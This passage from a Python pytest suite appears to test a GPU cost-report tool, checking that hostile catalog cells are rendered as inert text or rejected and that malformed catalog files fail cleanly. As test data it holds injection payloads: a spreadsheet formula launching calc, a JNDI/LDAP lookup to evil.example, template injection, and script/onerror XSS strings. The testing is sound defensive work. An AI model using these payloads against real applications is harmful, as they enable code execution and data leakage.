    assert report["cost"]["price"]["instance"]["doubt"] == CATALOG_INJECTIONS["doubt"]
    visible = parse(page).text["cost"]
    for cell in CATALOG_INJECTIONS.values():
        assert cell in visible, cell  # verbatim, as text: no template filled in ({{7*7}} is not 49)
    assert html.escape(CATALOG_INJECTIONS["source"]) in page
    cost_md = md_sections(md)["cost"]
    # A backticked cell is a code span (inert: Markdown renders its inside as it is, no HTML, no link), or
    # escaped where its inside could act.
    assert r"=cmd\|' /C calc'!A0" in cost_md and "`touch PWNED`" in cost_md
    assert r"\${jndi:ldap://evil.example/a}" in cost_md and "{{7\\*7}}" in cost_md
    assert_inert_markdown(md, sorted(p.name for p in out.glob("*.png")))


@pytest.mark.parametrize(
    ("cells", "problem"),
    [
        ({"provider": payload("provider")}, "provider"),
        ({"instance": "box<script>"}, "instance"),
        ({"region": 'us-east-1"><img src=x onerror=alert(1)>'}, "region"),
        ({"on_demand_usd_hr": "=1+1"}, "not a number"),
    ],
)
def test_catalog_keys_must_be_plain_names(tmp_path: Path, cells: dict[str, str], problem: str) -> None:
    catalog = _write_catalog(tmp_path / "catalog.csv", [_catalog_row(**cells)])
    with pytest.raises(CatalogError) as caught:
        load_instances(catalog)
    message = str(caught.value)
    assert problem in message and "\n" not in message and f"{catalog}:2:" in message


CATALOG_HEADER = "provider,instance,gpu,gpu_count,on_demand_usd_hr,source,as_of\n"


def _bad_catalog(kind: str, path: Path) -> Path:
    if kind == "directory":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "binary":
        path.write_bytes(bytes(range(256)) * 64)
    elif kind == "nul bytes in utf-8":
        path.write_bytes(b"provider,instance\x00,gpu\nevil,\x00box,H200\n")
    elif kind == "huge line":
        path.write_text(CATALOG_HEADER + "x" * 2**20 + "\n", encoding="utf-8")
    elif kind == "huge quoted cell":
        path.write_text(CATALOG_HEADER + f'evil,box-8,H200,8,40,"{"y" * 2**20}",2025\n', encoding="utf-8")
    elif kind == "unterminated quote":
        path.write_text(CATALOG_HEADER + 'evil,"box\n', encoding="utf-8")
    elif kind == "empty":
        path.write_text("", encoding="utf-8")
    else:
        assert kind == "missing"
    return path


BAD_CATALOGS = [
    "binary",
    "directory",
    "empty",
    "huge line",
    "huge quoted cell",
    "missing",
    "nul bytes in utf-8",
    "unterminated quote",
    *(["fifo"] if hasattr(os, "mkfifo") else []),
]


@pytest.mark.parametrize("kind", BAD_CATALOGS)
def test_a_bad_catalog_file_is_a_one_line_error(
    kind: str, planted: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _bad_catalog(kind, tmp_path / "catalog.csv")
    result: list[BaseException | None] = []

    def load() -> None:
        try:
            load_instances(path)
            result.append(None)
        except BaseException as exc:  # collected for the assertion below
            result.append(exc)

    # A FIFO with no writer would block an open() for ever: load in a thread that may be abandoned.
    loader = threading.Thread(target=load, daemon=True)
    loader.start()
    loader.join(timeout=20)
    assert result, f"loading a {kind} catalog hung"
    assert isinstance(result[0], CatalogError), repr(result[0])
    assert "\n" not in str(result[0]) and str(path) in str(result[0])

    code = main(["report", str(planted["run"]), "-o", str(tmp_path / "out"), "--instance", "evil:box-8",
                 "--catalog", str(path)])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 2, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not (tmp_path / "out" / "report.html").exists()
